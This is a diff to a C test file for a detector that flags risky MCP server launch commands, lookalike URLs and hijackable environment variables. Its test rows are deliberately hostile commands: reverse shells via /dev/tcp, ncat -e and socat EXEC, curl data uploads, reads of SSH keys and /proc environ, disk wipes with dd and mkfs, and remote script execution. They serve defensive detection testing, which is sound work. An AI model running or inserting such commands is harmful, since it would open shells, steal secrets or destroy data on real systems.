@@ -50,7 +50,7 @@ check_argv (const char *line,
   profile = mcp_profile_new_for_argv ("x", (const char * const *) argv);
   marked = mark_all (profile);
   if (strcmp (marked, expected) != 0)
-    g_error ("%s: marked “%s”, not “%s”", line, marked, expected);
+    g_test_fail_printf ("%s: marked “%s”, not “%s”", line, marked, expected);
 }
 
 static void
@@ -105,6 +105,95 @@ test_commands (void)
     { "server '$(rm -r x)'", "rm -r" },
     { "server 'rm x; ls -r'", "" },
     { "server 'medieval x; evaluate y'", "" },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
+    check_argv (rows[i].line, rows[i].marked);
+}
+
+/* Programs that have others run, and options that make an interpreter run something else than its file. */
+static void
+test_programs (void)
+{
+  static const struct
+  {
+    const char *line;
+    const char *marked;
+  } rows[] = {
+    { "env -S 'sh -c \"x\"'", "env|sh -c \"x\"" },
+    { "env --split-string='x y'", "env|--split-string=x y" },
+    { "/usr/bin/env -iS 'x y'", "/usr/bin/env|x y" },
+    { "env A=1 my-server", "" },
+    { "find . -exec x ;", "find|x" },
+    { "my-server find -exec x", "" },
+    { "find . -name x -delete", "find|-delete" },
+    { "awk 'BEGIN{system(\"id\")}'", "awk|BEGIN{system(\"id\")}" },
+    { "python3 -Ic 'import os'", "python3|import os" },
+    { "python3 -W ignore -c x", "python3|x" },
+    { "python3 '-cimport os'", "python3|-cimport os" },
+    { "python3 -u server.py -c x", "" },
+    { "python3 -", "-" },
+    { "python3 -m server -c x", "" },
+    { "node --import data:text/javascript,x server.js", "node|data:text/javascript,x|data:text/javascript,x" },
+    { "node --import=data:text/javascript,x server.js", "node|--import=data:text/javascript,x|--import=data:text/javascript,x" },
+    { "node -r ./x.js server.js", "node|./x.js" },
+    { "node --max-old-space-size=100 server.js", "" },
+    { "nodejs -pe x", "nodejs|x" },
+    { "deno run https://example.com/x.ts", "https://example.com/x.ts" },
+    { "deno run -A server.ts https://example.com/", "" },
+    { "bun run server.ts", "" },
+    { "bash /dev/fd/0", "/dev/fd/0" },
+    { "bash -s", "bash|-s" },
+    { "sh -o pipefail -c x", "sh|x" },
+    { "sh /dev/stdin", "/dev/stdin" },
+    { "perl -MSocket -we x", "perl|x" },
+    { "perl -Mre=debug server.pl", "" },
+    { "ruby -rsocket -e x", "ruby|x" },
+    { "php -r x", "php|x" },
+    { "php -d auto_prepend_file=/x server.php", "php|auto_prepend_file=/x" },
+    { "lua -e x", "lua|x" },
+    { "osascript -e x", "osascript|x" },
+    { "java -javaagent:/x.jar -jar y.jar", "java|-javaagent:/x.jar" },
+    { "java -jar y.jar", "" },
+    { "uv run https://example.com/x.py", "https://example.com/x.py" },
+    { "uv run --directory /x server.py", "" },
+    { "uvx --from git+https://example.com/x@1 y", "git+https://example.com/x@1" },
+    { "ssh host server", "ssh" },
+    { "ssh -oProxyCommand=x host", "ssh|ssh|-oProxyCommand=x" },
+    { "ssh -o ProxyCommand=x host", "ssh|ssh|ProxyCommand=x" },
+    { "socat - TCP:x:1", "socat" },
+    { "socat TCP:x:1 EXEC:sh", "socat|socat|EXEC:sh" },
+    { "ncat -e /bin/sh x 1", "ncat|ncat|/bin/sh" },
+    { "systemd-run --user x", "systemd-run" },
+    { "flatpak-spawn --host x", "flatpak-spawn" },
+    { "nohup at now", "at" },
+    { "my-server --mode at open", "" },
+    { "timeout 5 xargs x", "xargs" },
+    { "git -c core.pager=x log", "git|core.pager=x" },
+    { "git mcp", "" },
+    { "tar xf a --to-command=x", "tar|--to-command=x" },
+    { "gdb -ex 'shell x' y", "gdb|shell x" },
+    { "/lib64/ld-linux-x86-64.so.2 ./x", "/lib64/ld-linux-x86-64.so.2" },
+    { "base64 -d x", "base64|x" },
+    { "mkfs.ext4 /dev/sda", "mkfs.ext4" },
+    { "dd if=/dev/zero of=/dev/sda", "dd" },
+    { "chmod 777 x", "chmod" },
+    { "iptables -F", "iptables" },
+    { "cat /home/a/.ssh/id_rsa", "/home/a/.ssh/id_rsa" },
+    { "cat /proc/1/environ", "/proc/1/environ" },
+    { "server --config /home/a/environment.json", "" },
+    { "rundll32.exe x,y", "rundll32.exe" },
+    { "/usr/bin/../../tmp/x", "/usr/bin/../../tmp/x|/usr/bin/../../tmp/x" },
+    { "/usr/bin/./server", "" },
+    { "curl -d @x http://y", "curl|curl|@x" },
+    { "sh -c 'xargs x; ssh y z'", "sh|xargs x; ssh y z|xargs|ssh" },
+    { "sh -c 'cat x; find . -delete'", "sh|cat x; find . -delete|find|-delete" },
+    { "sh -c 'exec 3<>/dev/tcp/x/1'", "sh|exec 3<>/dev/tcp/x/1|/dev/tcp/x/1" },
+    { "server x\302\240y", "x\302\240y" },
+    { "server \342\240\200", "\342\240\200" },
+    { "server \343\205\244", "\343\205\244" },
+    { "n\320\276de server.js", "n\320\276de" },
+    { "server \320\264\320\276\320\272/x \355\225\234a", "" },
   };
 
   for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
@@ -253,6 +342,15 @@ test_urls (void)
     { "https://[fec0::1]/", "fec0::1" },
     { "https://[2001:db8::1]/", "" },
     { "https://a.localhost/", "a.localhost" },
+    { "https://m\303\274nchen.example/", "m\303\274nchen.example" },
+    { "https://xn--mnchen-3ya.example/", "xn--mnchen-3ya.example" },
+    { "https://p\320\260ypal.example/", "p\320\260ypal.example|p\320\260ypal.example" },
+    { "https://xn--pypal-4ve.example/", "xn--pypal-4ve.example|xn--pypal-4ve.example" },
+    { "https://example\343\200\202com/", "example\343\200\202com|example\343\200\202com" },
+    { "https://example.com\342\201\204x.evil.example/",
+      "example.com\342\201\204x.evil.example|example.com\342\201\204x.evil.example" },
+    { "https://example.com%E2%88%95x.evil.example/",
+      "example.com%E2%88%95x.evil.example|example.com%E2%88%95x.evil.example" },
     { "https://db.internal/", "db.internal" },
     { "https://internal.example.com/", "" },
     { "https://localhost.example.com/", "" },
@@ -266,7 +364,7 @@ test_urls (void)
       g_autofree char *marked = mark_all (profile);
 
       if (strcmp (marked, rows[i].marked) != 0)
-        g_error ("%s: marked “%s”, not “%s”", rows[i].url, marked, rows[i].marked);
+        g_test_fail_printf ("%s: marked “%s”, not “%s”", rows[i].url, marked, rows[i].marked);
     }
 }
 
@@ -295,10 +393,13 @@ test_variables (void)
   static const char * const marked[] = {
     "PATH", "Path", "LD_PRELOAD", "ld_audit", "NODE_OPTIONS", "PYTHONPATH", "BASH_ENV", "GIT_SSH_COMMAND",
     "npm_config_registry", "PIP_INDEX_URL", "UV_INDEX", "DOCKER_HOST", "NODE_TLS_REJECT_UNAUTHORIZED",
-    "SSL_CERT_FILE", "PYTHONHTTPSVERIFY", "A\342\200\256B", "C\nD",
+    "SSL_CERT_FILE", "PYTHONHTTPSVERIFY", "npm_config_node_options", "GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0",
+    "OPENSSL_CONF", "HOME", "HTTP_PROXY", "https_proxy", "LUA_INIT", "LUA_INIT_5_4", "SSH_ASKPASS", "HOMEBREW_A_DOMAIN",
+    "OPENAI_BASE_URL", "XDG_CONFIG_HOME", "CLASSPATH", "GOFLAGS", "RUSTC_WRAPPER", "PS4", "IFS", "ZDOTDIR", "A\342\200\256B", "C\nD",
   };
   static const char * const plain[] = {
-    "PATHS", "MYPATH", "LD_PRELOADED", "API_KEY", "NODE_ENV", "PYTHONUNBUFFERED", "HOME", "DOCKER", "É",
+    "PATHS", "MYPATH", "OLD_PRELOAD", "API_KEY", "NODE_ENV", "PYTHONUNBUFFERED", "HOMES", "DOCKER", "É", "POSTGRES_PASSWORD", "DATABASE_URL",
+    "LOG_LEVEL", "PORT", "DEBUG", "TZ", "GITHUB_TOKEN",
   };
   const char *argv[] = { "my-server", NULL };
 
@@ -313,8 +414,8 @@ test_variables (void)
       mcp_profile_set_env (profile, env);
       risks = mcp_risks_find (profile);
       if (risks->len != (i < G_N_ELEMENTS (marked) ? 1 : 0))
-        g_error ("%s: %u", name, risks->len);
-      if (risks->len > 0)
+        g_test_fail_printf ("%s: %u", name, risks->len);
+      else if (risks->len > 0)
         {
           const McpRisk *risk = risks->pdata[0];
 
@@ -394,6 +495,24 @@ test_grades (void)
     }
 }
 
+/* All of them, with what is secret in them masked, and what is only named is not. */
+static void
+test_settings (void)
+{
+  const char *env[] = { "LEVEL=3", "API_KEY=sk-0123456789abcdefghij", "TOKEN=${env:MY_TOKEN}", NULL };
+  static const char *const expected[] = { "LEVEL=3", "API_KEY=\302\253redacted\302\273", "TOKEN=${env:MY_TOKEN}", NULL };
+  const char *argv[] = { "my-server", NULL };
+  g_autoptr (McpProfile) profile = mcp_profile_new_for_argv ("x", argv);
+
+  mcp_profile_set_env (profile, env);
+  for (guint i = 0; i <= G_N_ELEMENTS (env) - 1; i++)
+    {
+      g_autofree char *setting = mcp_risks_dup_setting (profile, i);
+
+      g_assert_cmpstr (setting, ==, expected[i]);
+    }
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -401,11 +520,13 @@ main (int   argc,
   g_test_init (&argc, &argv, NULL);
 
   g_test_add_func ("/session/risk/commands", test_commands);
+  g_test_add_func ("/session/risk/programs", test_programs);
   g_test_add_func ("/session/risk/packages", test_packages);
   g_test_add_func ("/session/risk/containers", test_containers);
   g_test_add_func ("/session/risk/urls", test_urls);
   g_test_add_func ("/session/risk/grades", test_grades);
   g_test_add_func ("/session/risk/variables", test_variables);
+  g_test_add_func ("/session/risk/settings", test_settings);
   g_test_add_func ("/session/risk/around", test_around);
   g_test_add_func ("/session/risk/hostile", test_hostile);
 
